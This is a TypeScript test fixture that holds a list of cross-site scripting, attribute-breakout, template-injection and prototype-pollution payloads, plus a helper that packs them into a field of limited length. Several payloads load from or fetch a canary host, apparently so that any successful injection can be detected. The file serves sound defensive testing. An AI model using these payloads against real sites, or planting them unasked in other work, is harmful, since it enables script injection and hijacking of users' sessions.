/** A host that doesn't exist: any request for it was caused by an injected text. */
const CANARY = 'canary.invalid';

const RUN = `fetch('http://${CANARY}/')`;
const LOAD = `http://${CANARY}/x`;

/** Texts that do harm if a page takes them for markup, script, style or an address. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  `<script src=${LOAD}.js></script>`,
  '<SCRIPT >alert(1)</SCRIPT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `<img src=${LOAD}.png>`,
  '<img src=x onerror="alert(1)"//',
  '<img/src/onerror=alert(1)>',
  '<img src=`x` onerror=`alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  `<img srcset="${LOAD} 1x">`,
  `<image href="${LOAD}">`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  `<svg><use href="${LOAD}#x"/></svg>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  `<video poster=${LOAD}></video>`,
  `<audio src=${LOAD} onerror=alert(1)>`,
  '<marquee onstart=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  `<iframe src=${LOAD}></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  `<embed src=${LOAD}>`,
  `<link rel=stylesheet href=${LOAD}.css>`,
  `<style>@import '${LOAD}.css';</style>`,
  `<style>body{background:url(${LOAD})}</style>`,
  `<div style="background:url(${LOAD})">x</div>`,
  `<base href=${LOAD}>`,
  `<meta http-equiv=refresh content="0;url=${LOAD}">`,
  `<form action=${LOAD}><button autofocus>x</button></form>`,
  `<a href="javascript:alert(1)">x</a><a href=${LOAD} ping=${LOAD}>x</a>`,
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) x='",
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `\`;${RUN};//\${${RUN}}`,
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template injection payload
  '${alert(1)}',
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '{"__proto__":{"polluted":1},"$L1":"</script>"}',
];

/** As many payloads as fit into a field, starting with the n-th. */
export function fitting(max: number, from = 0): string {
  let text = '';
  for (let index = 0; index < PAYLOADS.length; index += 1) {
    const longer = `${text} ${PAYLOADS[(from + index) % PAYLOADS.length]}`.trim();
    if (longer.length <= max) text = longer;
  }
  return text;
}

export const ALL = PAYLOADS.join(' ');
